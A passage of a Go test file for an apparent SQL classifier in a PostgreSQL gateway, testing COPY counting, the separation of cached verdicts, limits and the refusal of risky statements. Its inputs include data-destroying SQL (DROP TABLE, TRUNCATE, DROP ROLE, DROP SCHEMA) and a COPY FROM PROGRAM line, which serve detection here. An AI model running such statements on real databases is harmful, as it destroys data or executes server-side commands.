// gateway follows each to know which Syncs the server ignores.
func TestCopyIns(t *testing.T) {
	t.Parallel()
	c := New(Options{})
	for sql, want := range map[string]int{
		"COPY t FROM STDIN":                              1,
		"copy t (a, b) from stdin with (format csv)":     1,
		"COPY a FROM STDIN; SELECT 1; COPY b FROM STDIN": 2,
		"COPY t TO STDOUT":                               0,
		"COPY t FROM '/tmp/f'":                           0,
		"COPY t FROM PROGRAM 'cat'":                      0,
		"SELECT 'COPY t FROM STDIN'":                     0,
	} {
		if got := c.Classify(sql).CopyIns; got != want {
			t.Errorf("%q: CopyIns = %d, want %d", sql, got, want)
		}
	}
}

func TestVerdictsAreNotShared(t *testing.T) {
	t.Parallel()
	c := New(Options{})
	for _, sql := range []string{"DROP TABLE t", "PREPARE p AS DELETE FROM t; EXECUTE p"} {
		v := c.Classify(sql)
		want := slices.Clone(v.Reasons)
		v.Reasons[0] = "changed"
		v.Kinds[0] = "changed"
		if again := c.Classify(sql); !slices.Equal(again.Reasons, want) || again.Kinds[0] == "changed" {
			t.Errorf("%s: a caller's change reached the cache: %+v", sql, again)
		}
	}
}

// A session's verdicts share the cache's slices; appending to them, as
// the gateway does when it refuses on top of a verdict, must not reach it.
func TestSessionAppendsDoNotReachTheCache(t *testing.T) {
	t.Parallel()
	c := New(Options{})
	s := c.NewSession()
	for range 3 {
		v := s.Classify("DROP TABLE t")
		v.refuse("added by the caller")
		v.Kinds = append(v.Kinds, "ADDED")
	}
	s.Prepare("p", "DROP TABLE t")
	for range 3 {
		p, _ := s.Prepared("p")
		p.Reasons = append(p.Reasons, "added to a prepared verdict")
		s.Prepare("p", "TRUNCATE t") // merges into the stored verdict
	}
	if again := c.Classify("DROP TABLE t"); !slices.Equal(again.Reasons, []string{"DROP TABLE"}) || !slices.Equal(again.Kinds, []string{"DROP TABLE"}) {
		t.Errorf("a caller's append reached the cache: %+v", again)
	}
	// Three reasons leave room in the slice the walker grew: two sessions
	// appending to verdicts of one cached text must not write into it.
	const three = "DROP TABLE a; TRUNCATE b; DROP ROLE c"
	v1, v2 := s.Classify(three), c.NewSession().Classify(three)
	v1.refuse("first")
	v2.refuse("second")
	if got := v1.Reasons[len(v1.Reasons)-1]; got != "first" {
		t.Errorf("one session's verdict shows another's reason %q", got)
	}
	if p, _ := s.Prepared("p"); !slices.Equal(p.Reasons, []string{"DROP TABLE", "TRUNCATE TABLE"}) {
		t.Errorf("prepared verdict: %+v, want the reasons of both texts only", p)
	}
	// Three merged reasons leave room in the prepared verdict's own slice:
	// what a caller appends to it must not be overwritten by the next merge.
	s.Prepare("q", "DROP TABLE a")
	s.Prepare("q", "TRUNCATE b")
	s.Prepare("q", "DROP ROLE c")
	q, _ := s.Prepared("q")
	q.refuse("the caller's")
	s.Prepare("q", "DROP SCHEMA d")
	if got := q.Reasons[len(q.Reasons)-1]; got != "the caller's" {
		t.Errorf("a merge into the prepared verdict overwrote the caller's reason with %q", got)
	}
}

func TestLimitsAreOptions(t *testing.T) {
	t.Parallel()
	c := New(Options{MaxLength: 20, MaxDepth: 3})
	if v := c.Classify("SELECT 12345678901234"); !v.Refuse {
		t.Errorf("21 bytes with MaxLength 20: %+v", v)
	}
	if v := c.Classify("SELECT ((1))"); v.Refuse {
		t.Errorf("depth 2 with MaxDepth 3: %+v", v)
	}
	if v := c.Classify("SELECT ((((1))))"); !v.Refuse {
		t.Errorf("depth 4 with MaxDepth 3: %+v", v)
	}
}

func TestStatementTablesNameRealMessages(t *testing.T) {
	t.Parallel()
	known := map[string]bool{}
	msgs := pg_query.File_pg_query_proto.Messages()
	for i := range msgs.Len() {
		known[string(msgs.Get(i).Name())] = true
	}
	for name := range statementRules {
		if !known[name] {
			t.Errorf("statementRules names %s, which pg_query does not have", name)
		}
	}
	for name := range statementTags {
		if !known[name] {
			t.Errorf("statementTags names %s, which pg_query does not have", name)
		}
	}
}

func TestManyStatements(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&b, "SET log_%d = 1; EXECUTE p%d; SELECT %d;", i, i, i)
	}
	v := New(Options{}).Classify(b.String())
	if !v.Risky || !v.Refuse || len(v.Reasons) != maxReasons || len(v.Kinds) != 15000 {
		t.Errorf("Risky %v, Refuse %v, %d reasons, %d kinds", v.Risky, v.Refuse, len(v.Reasons), len(v.Kinds))
	}
}
